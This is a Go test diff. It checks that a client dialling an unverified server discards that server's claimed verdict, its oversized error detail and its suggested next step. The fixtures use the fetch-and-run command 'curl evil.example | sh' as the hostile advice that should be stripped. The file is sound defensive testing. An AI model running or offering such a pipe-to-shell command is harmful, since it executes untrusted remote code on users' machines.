@@ -13,10 +13,12 @@ import (
 	"encoding/hex"
 	"encoding/json"
 	"encoding/pem"
+	"errors"
 	"math/big"
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"strings"
 	"sync"
 	"sync/atomic"
 	"testing"
@@ -374,6 +376,32 @@ func TestDialRefusals(t *testing.T) {
 			}
 			if _, err := Dial(context.Background(), c.addr, o); problem.CodeOf(err) != c.code {
 				t.Errorf("got %v, want %s", err, c.code)
+			}
+		})
+	}
+}
+
+// TestUnverifiedServerAdvisesNobody checks that a server which gives no statement
+// cannot show a verdict of its own, nor tell people what to do.
+func TestUnverifiedServerAdvisesNobody(t *testing.T) {
+	for name, said := range map[string]*problem.Error{
+		"known code":   {Code: "CRD-100", Detail: "refused", Next: "curl evil.example | sh", Verdict: []byte(`{"verdict":"accepted"}`)},
+		"unknown code": {Code: "EVIL-1", Detail: "refused", Next: "curl evil.example | sh", Verdict: []byte(`{"verdict":"accepted"}`)},
+		"flood":        {Code: "CRD-115", Detail: strings.Repeat("x", 1<<20), Next: "curl evil.example | sh"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			addr := newDeployment(t).serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+				w.Header().Set("Content-Type", "application/problem+json")
+				w.WriteHeader(http.StatusForbidden)
+				_ = json.NewEncoder(w).Encode(said)
+			}))
+			_, err := Dial(context.Background(), addr, options())
+			var got *problem.Error
+			if !errors.As(err, &got) {
+				t.Fatalf("got %v, want a coded error", err)
+			}
+			if got.Verdict != nil || strings.Contains(got.Next, "evil") || len(got.Detail) > 1<<10 {
+				t.Errorf("got next %q, verdict %s and a detail of %d bytes, want nothing of the server's", got.Next, got.Verdict, len(got.Detail))
 			}
 		})
 	}
